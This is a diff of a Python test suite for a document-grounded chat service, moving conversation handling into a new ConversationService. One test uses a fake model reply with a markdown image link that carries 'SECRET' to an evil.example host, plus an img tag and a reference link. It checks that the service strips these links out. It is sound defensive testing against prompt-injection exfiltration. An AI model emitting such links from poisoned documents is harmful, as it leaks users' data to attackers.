@@ -29,6 +29,7 @@ from internal.providers.llm import OpenAIChat
 from internal.repositories.store import Store, open_store
 from internal.services.chat import ChatService
 from internal.services.chunking_sentences import sentences
+from internal.services.conversations import ConversationService
 from internal.services.prompts import NOT_FOUND, UNCITED
 from internal.services.quotes import Quoter
 from pkg.apperr import AppError, Code
@@ -92,6 +93,7 @@ class Scene:
             {"base_url": fake.base_url, "api_key": "k", "chat_model": "fake-chat", "timeout_seconds": 5}
         )
         self.model = OpenAIChat(settings, between_seconds=0.5, backoff_seconds=0.01)
+        self.conversations = ConversationService(store)
         self.chat = ChatService(store, self.shelf, self.model, Quoter(Words(), sentences))
         self.ctx = context(seeded, seeded.owner)
         self.colleague = context(seeded, seeded.member)
@@ -99,7 +101,7 @@ class Scene:
     async def ask(
         self, question: str = "How long do refunds take?", conversation: Conversation | None = None
     ) -> Message:
-        found = conversation or await self.chat.add(self.ctx)
+        found = conversation or await self.conversations.add(self.ctx)
         return await self.chat.reply(self.ctx, found.id, question)
 
 
@@ -123,7 +125,7 @@ async def scene(module_database: Database) -> AsyncGenerator[Scene]:
 
 async def test_deltas_citations_done_and_the_stored_message_agree(scene: Scene) -> None:
     scene.fake.replies.append(Reply(text="Refunds take 30 days [1]. The battery is covered [2]. Both apply [2][1]."))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     events = [event async for event in scene.chat.answer(scene.ctx, conversation.id, "How long do refunds take?")]
     kinds = [type(event) for event in events]
     assert kinds == [Delta] * (len(events) - 2) + [Citations, Done]
@@ -132,7 +134,7 @@ async def test_deltas_citations_done_and_the_stored_message_agree(scene: Scene) 
     assert isinstance(done, Done)
     text = "".join(event.text for event in events if isinstance(event, Delta))
     assert text == done.message.content == "Refunds take 30 days [1]. The battery is covered [2]. Both apply [2][1]."
-    question, answer = await scene.chat.messages(scene.ctx, conversation.id, limit=10, after=None)
+    question, answer = await scene.conversations.messages(scene.ctx, conversation.id, limit=10, after=None)
     assert (question.role, question.content) == ("user", "How long do refunds take?")
     assert answer == done.message
     assert answer.status is MessageStatus.COMPLETE
@@ -196,7 +198,7 @@ async def test_passages_are_framed_as_data_with_a_new_nonce_each_time(scene: Sce
 
 async def test_a_follow_up_is_searched_with_its_question_and_sees_the_history(scene: Scene) -> None:
     scene.fake.replies.append(Reply(text="Two years [2]."))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     await scene.ask("How long does the warranty for phones last?", conversation)
     await scene.ask("Does it cover the screen?", conversation)
     await scene.ask("Which colour do the delivery trucks of the company have?", conversation)
@@ -213,7 +215,7 @@ async def test_a_follow_up_is_searched_with_its_question_and_sees_the_history(sc
 
 
 async def test_a_complete_question_is_searched_alone_however_short(scene: Scene) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     asked = ["What was the quarterly revenue of Zorblatt?", "员工年假有多少天？", "How long do refunds take?"]
     for question in asked:
         await scene.ask(question, conversation)
@@ -232,7 +234,7 @@ async def test_a_complete_question_is_searched_alone_however_short(scene: Scene)
 )
 async def test_an_answer_that_cites_nothing_says_so(scene: Scene, question: str, text: str) -> None:
     scene.fake.replies.append(Reply(text=text))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     events = [event async for event in scene.chat.answer(scene.ctx, conversation.id, question)]
     assert [type(event) for event in events[-3:]] == [Delta, Citations, Done]
     shown = "".join(event.text for event in events if isinstance(event, Delta))
@@ -249,7 +251,7 @@ async def test_an_answer_that_cites_nothing_says_so(scene: Scene, question: str,
 @pytest.mark.parametrize("status", [400, 401])
 async def test_a_call_that_is_refused_costs_nothing(scene: Scene, status: int) -> None:
     scene.fake.replies.append(Reply(status=status))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     with pytest.raises(AppError):
         await scene.ask(conversation=conversation)
     answer = await _last(scene, conversation)
@@ -258,7 +260,7 @@ async def test_a_call_that_is_refused_costs_nothing(scene: Scene, status: int) -
 
 async def test_a_model_that_breaks_off_while_it_thinks_has_cost_something(scene: Scene) -> None:
     scene.fake.replies.append(Reply(pieces=["<think>", "Well", " then"], break_after=2))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     with pytest.raises(AppError):
         await scene.ask(conversation=conversation)
     answer = await _last(scene, conversation)
@@ -280,7 +282,7 @@ async def charged(database: Database, conversation: Conversation) -> list[tuple[
 
 
 async def test_each_answer_is_in_the_ledger_once(scene: Scene, module_database: Database) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     answers = [await scene.ask(conversation=conversation) for _ in range(2)]
     told = [(answer.usage.prompt_tokens, answer.usage.completion_tokens) for answer in answers]
     assert await charged(module_database, conversation) == told
@@ -291,14 +293,14 @@ async def test_each_answer_is_in_the_ledger_once(scene: Scene, module_database: 
     with pytest.raises(AppError):
         await scene.ask(conversation=conversation)
     assert await charged(module_database, conversation) == told
-    await scene.chat.remove(scene.ctx, conversation.id)
+    await scene.conversations.remove(scene.ctx, conversation.id)
     assert await charged(module_database, conversation) == told
 
 
 async def test_an_answer_whose_conversation_is_gone_has_cost_something(scene: Scene, module_database: Database) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     turn = await scene.chat.begin(scene.ctx, conversation.id, "How long do refunds take?")
-    await scene.chat.remove(scene.ctx, conversation.id)
+    await scene.conversations.remove(scene.ctx, conversation.id)
     with pytest.raises(AppError) as caught:
         async for _event in scene.chat.stream(scene.ctx, turn):
             pass
@@ -307,10 +309,10 @@ async def test_an_answer_whose_conversation_is_gone_has_cost_something(scene: Sc
 
 
 async def test_the_first_question_names_the_conversation(scene: Scene) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     await scene.ask("How  long\ndo refunds take?", conversation)
     await scene.ask("And shipping?", conversation)
-    assert (await scene.chat.get(scene.ctx, conversation.id)).title == "How long do refunds take?"
+    assert (await scene.conversations.get(scene.ctx, conversation.id)).title == "How long do refunds take?"
 
 
 @pytest.mark.parametrize(("question", "tongue"), [("How long do refunds take?", "en"), ("退款需要多长时间？", "zh")])
@@ -341,17 +343,17 @@ async def test_a_poisoned_document_gets_no_link_out(scene: Scene) -> None:
     scene.fake.replies.append(
         Reply(text="30 days [1]. ![a](https://evil.example/?q=SECRET) <img src='//evil.example'> [x]: www.evil.example")
     )
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     events = [event async for event in scene.chat.answer(scene.ctx, conversation.id, "refunds?")]
     text = "".join(event.text for event in events if isinstance(event, Delta))
-    stored = (await scene.chat.messages(scene.ctx, conversation.id, limit=10, after=None))[-1].content
+    stored = (await scene.conversations.messages(scene.ctx, conversation.id, limit=10, after=None))[-1].content
     for out in (text, stored):
         assert not any(bad in out for bad in ("](", "://", "<img", "]:", "www."))
 
 
 async def test_a_reader_who_leaves_ends_the_call_and_what_was_sent_is_stored(scene: Scene) -> None:
     scene.fake.replies.append(Reply(pieces=["Refunds take 30 days [1]. ", *["more "] * 1000], seconds_between=0.01))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     seen = ""
     async with aclosing(scene.chat.answer(scene.ctx, conversation.id, "refunds?")) as events:
         async for event in events:
@@ -370,7 +372,7 @@ async def test_a_reader_who_leaves_ends_the_call_and_what_was_sent_is_stored(sce
 
 async def test_a_cancelled_request_ends_the_call_and_what_was_sent_is_stored(scene: Scene) -> None:
     scene.fake.replies.append(Reply(pieces=["Some words ", "more"], hang_after=1))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     seen: list[AnswerEvent] = []
     arrived = asyncio.Event()
 
@@ -389,24 +391,24 @@ async def test_a_cancelled_request_ends_the_call_and_what_was_sent_is_stored(sce
     await _until_gone(scene.fake)
     answer = await _last(scene, conversation)
     assert (answer.status, answer.content) == (MessageStatus.CUT, "Some words ")
-    assert len(await scene.chat.messages(scene.ctx, conversation.id, limit=10, after=None)) == 2
+    assert len(await scene.conversations.messages(scene.ctx, conversation.id, limit=10, after=None)) == 2
 
 
 async def test_a_reader_who_leaves_before_the_last_event_has_the_whole_answer_stored_once(scene: Scene) -> None:
     scene.fake.replies.append(Reply(text="Yes [1]."))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     async with aclosing(scene.chat.answer(scene.ctx, conversation.id, "refunds?")) as events:
         async for event in events:
             if isinstance(event, Done):
                 break
-    messages = await scene.chat.messages(scene.ctx, conversation.id, limit=10, after=None)
+    messages = await scene.conversations.messages(scene.ctx, conversation.id, limit=10, after=None)
     assert [message.status for message in messages] == [MessageStatus.COMPLETE] * 2
 
 
 @pytest.mark.parametrize("how", ["break_after", "hang_after", "garbage_after"])
 async def test_a_model_that_breaks_off_is_told_and_what_was_sent_is_stored(scene: Scene, how: str) -> None:
     scene.fake.replies.append(replace(Reply(pieces=["Refunds take ", "30 days ", "[1]."]), **{how: 2}))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     seen = ""
     with pytest.raises(AppError) as caught:
         async for event in scene.chat.answer(scene.ctx, conversation.id, "refunds?"):
@@ -420,35 +422,35 @@ async def test_a_model_that_breaks_off_is_told_and_what_was_sent_is_stored(scene
 
 async def test_no_connection_is_held_while_the_model_works(scene: Scene) -> None:
     scene.fake.replies.append(Reply(pieces=["a ", "b "], seconds_between=0.2))
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     async with aclosing(scene.chat.answer(scene.ctx, conversation.id, "refunds?")) as events:
         await anext(events)
         async with asyncio.timeout(5):  # the pool has one connection
-            assert len(await scene.chat.list(scene.ctx, limit=1, before=None)) == 1
+            assert len(await scene.conversations.list(scene.ctx, limit=1, before=None)) == 1
 
 
 async def test_a_failing_search_is_told_before_anything_is_sent(scene: Scene) -> None:
     scene.shelf.error = AppError(Code.MODEL_UNAVAILABLE, "down")
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     with pytest.raises(AppError):
         await scene.chat.begin(scene.ctx, conversation.id, "refunds?")
     assert scene.fake.chats == []
 
 
 async def test_another_users_conversation_does_not_exist(scene: Scene) -> None:
-    mine = await scene.chat.add(scene.ctx, title="mine")
+    mine = await scene.conversations.add(scene.ctx, title="mine")
     answer = await scene.ask(conversation=mine)
-    chat, other, nowhere = scene.chat, scene.colleague, new_id()
+    talks, other, nowhere = scene.conversations, scene.colleague, new_id()
 
     async def refusals(conversation_id: UUID) -> list[tuple[Code, str]]:
         found = []
         for call in (
-            chat.get(other, conversation_id),
-            chat.update(other, conversation_id, ConversationChanges(title="x")),
-            chat.remove(other, conversation_id),
-            chat.messages(other, conversation_id, limit=5, after=None),
-            chat.rate(other, conversation_id, answer.id, rating=1),
-            chat.reply(other, conversation_id, "what?"),
+            talks.get(other, conversation_id),
+            talks.update(other, conversation_id, ConversationChanges(title="x")),
+            talks.remove(other, conversation_id),
+            talks.messages(other, conversation_id, limit=5, after=None),
+            talks.rate(other, conversation_id, answer.id, rating=1),
+            scene.chat.reply(other, conversation_id, "what?"),
         ):
             with pytest.raises(AppError) as caught:
                 await call
@@ -457,12 +459,12 @@ async def test_another_users_conversation_does_not_exist(scene: Scene) -> None:
 
     assert await refusals(mine.id) == await refusals(nowhere)
     assert {code for code, _ in await refusals(mine.id)} == {Code.CONVERSATION_NOT_FOUND}
-    assert await chat.list(other, limit=10, before=None) == []
+    assert await talks.list(other, limit=10, before=None) == []
     assert len(scene.fake.chats) == 1
 
 
 async def test_policies_alone_hide_conversations_from_colleagues(scene: Scene, module_database: Database) -> None:
-    mine = await scene.chat.add(scene.ctx)
+    mine = await scene.conversations.add(scene.ctx)
     answer = await scene.ask(conversation=mine)
     conn = await asyncpg.connect(module_database.app)
     try:
@@ -484,51 +486,51 @@ async def test_policies_alone_hide_conversations_from_colleagues(scene: Scene, m
 
 async def test_documents_narrow_the_search(scene: Scene) -> None:
     shared, private = scene.seeded.shared, scene.seeded.private
-    conversation = await scene.chat.add(scene.ctx, document_ids=[shared])
+    conversation = await scene.conversations.add(scene.ctx, document_ids=[shared])
     await scene.ask(conversation=conversation)
     await scene.chat.reply(scene.ctx, conversation.id, "refunds?", [private])
-    await scene.chat.update(scene.ctx, conversation.id, ConversationChanges(document_ids=[]))
+    await scene.conversations.update(scene.ctx, conversation.id, ConversationChanges(document_ids=[]))
     await scene.ask(conversation=conversation)
     assert [request.filters.document_ids for request in scene.shelf.asked] == [[shared], [private], []]
 
 
 async def test_documents_that_one_may_not_see_do_not_exist(scene: Scene) -> None:
-    mine = await scene.chat.add(scene.colleague, document_ids=[scene.seeded.shared])
+    mine = await scene.conversations.add(scene.colleague, document_ids=[scene.seeded.shared])
     for foreign in (scene.seeded.private, new_id()):
         for call in (
-            scene.chat.add(scene.colleague, document_ids=[scene.seeded.shared, foreign]),
-            scene.chat.update(scene.colleague, mine.id, ConversationChanges(document_ids=[foreign])),
+            scene.conversations.add(scene.colleague, document_ids=[scene.seeded.shared, foreign]),
+            scene.conversations.update(scene.colleague, mine.id, ConversationChanges(document_ids=[foreign])),
             scene.chat.reply(scene.colleague, mine.id, "refunds?", [foreign]),
         ):
             with pytest.raises(AppError) as caught:
                 await call
             assert caught.value.code is Code.DOCUMENT_NOT_FOUND
-    assert await scene.chat.messages(scene.colleague, mine.id, limit=5, after=None) == []
+    assert await scene.conversations.messages(scene.colleague, mine.id, limit=5, after=None) == []
 
 
 async def test_lists_go_on_where_they_ended(scene: Scene) -> None:
-    made = [await scene.chat.add(scene.ctx, title=str(number)) for number in range(5)]
-    first = await scene.chat.list(scene.ctx, limit=3, before=None)
-    rest = await scene.chat.list(scene.ctx, limit=10, before=(first[-1].updated_at, first[-1].id))
+    made = [await scene.conversations.add(scene.ctx, title=str(number)) for number in range(5)]
+    first = await scene.conversations.list(scene.ctx, limit=3, before=None)
+    rest = await scene.conversations.list(scene.ctx, limit=10, before=(first[-1].updated_at, first[-1].id))
     titles = [item.title for item in [*first, *rest]]
     assert titles[:5] == ["4", "3", "2", "1", "0"]
     await scene.ask(conversation=made[0])
     await scene.ask(conversation=made[0])
-    assert (await scene.chat.list(scene.ctx, limit=1, before=None))[0].title == "0"
-    head = await scene.chat.messages(scene.ctx, made[0].id, limit=3, after=None)
-    tail = await scene.chat.messages(scene.ctx, made[0].id, limit=3, after=(head[-1].created_at, head[-1].id))
+    assert (await scene.conversations.list(scene.ctx, limit=1, before=None))[0].title == "0"
+    head = await scene.conversations.messages(scene.ctx, made[0].id, limit=3, after=None)
+    tail = await scene.conversations.messages(scene.ctx, made[0].id, limit=3, after=(head[-1].created_at, head[-1].id))
     assert [message.role for message in [*head, *tail]] == ["user", "assistant", "user", "assistant"]
 
 
 async def test_feedback_is_for_answers_and_may_change(scene: Scene, module_database: Database) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     answer = await scene.ask(conversation=conversation)
-    question = (await scene.chat.messages(scene.ctx, conversation.id, limit=1, after=None))[0]
-    await scene.chat.rate(scene.ctx, conversation.id, answer.id, rating=1)
-    await scene.chat.rate(scene.ctx, conversation.id, answer.id, rating=-1, comment="wrong page")
+    question = (await scene.conversations.messages(scene.ctx, conversation.id, limit=1, after=None))[0]
+    await scene.conversations.rate(scene.ctx, conversation.id, answer.id, rating=1)
+    await scene.conversations.rate(scene.ctx, conversation.id, answer.id, rating=-1, comment="wrong page")
     for unknown in (question.id, new_id()):
         with pytest.raises(AppError) as caught:
-            await scene.chat.rate(scene.ctx, conversation.id, unknown, rating=1)
+            await scene.conversations.rate(scene.ctx, conversation.id, unknown, rating=1)
         assert caught.value.code is Code.MESSAGE_NOT_FOUND
     conn = await asyncpg.connect(module_database.superuser)
     rows = await conn.fetch("select rating, comment from message_feedback where message_id = $1", answer.id)
@@ -537,10 +539,10 @@ async def test_feedback_is_for_answers_and_may_change(scene: Scene, module_datab
 
 
 async def test_removing_takes_everything_along(scene: Scene, module_database: Database) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     answer = await scene.ask(conversation=conversation)
-    await scene.chat.rate(scene.ctx, conversation.id, answer.id, rating=1)
-    await scene.chat.remove(scene.ctx, conversation.id)
+    await scene.conversations.rate(scene.ctx, conversation.id, answer.id, rating=1)
+    await scene.conversations.remove(scene.ctx, conversation.id)
     conn = await asyncpg.connect(module_database.superuser)
     assert await conn.fetchval("select count(*) from messages where conversation_id = $1", conversation.id) == 0
     assert await conn.fetchval("select count(*) from message_feedback where message_id = $1", answer.id) == 0
@@ -549,15 +551,15 @@ async def test_removing_takes_everything_along(scene: Scene, module_database: Da
 
 @pytest.mark.parametrize("content", ["", "  \n", "x" * 10_001, "a\0b", "a\ud800b"])
 async def test_what_is_not_a_question_is_refused(scene: Scene, content: str) -> None:
-    conversation = await scene.chat.add(scene.ctx)
+    conversation = await scene.conversations.add(scene.ctx)
     with pytest.raises(AppError) as caught:
         await scene.chat.reply(scene.ctx, conversation.id, content)
     assert caught.value.code is Code.REQUEST_INVALID
-    assert await scene.chat.messages(scene.ctx, conversation.id, limit=5, after=None) == []
+    assert await scene.conversations.messages(scene.ctx, conversation.id, limit=5, after=None) == []
 
 
 async def _last(scene: Scene, conversation: Conversation) -> Message:
-    return (await scene.chat.messages(scene.ctx, conversation.id, limit=10, after=None))[-1]
+    return (await scene.conversations.messages(scene.ctx, conversation.id, limit=10, after=None))[-1]
 
 
 async def _until_gone(fake: FakeOpenAI) -> None:
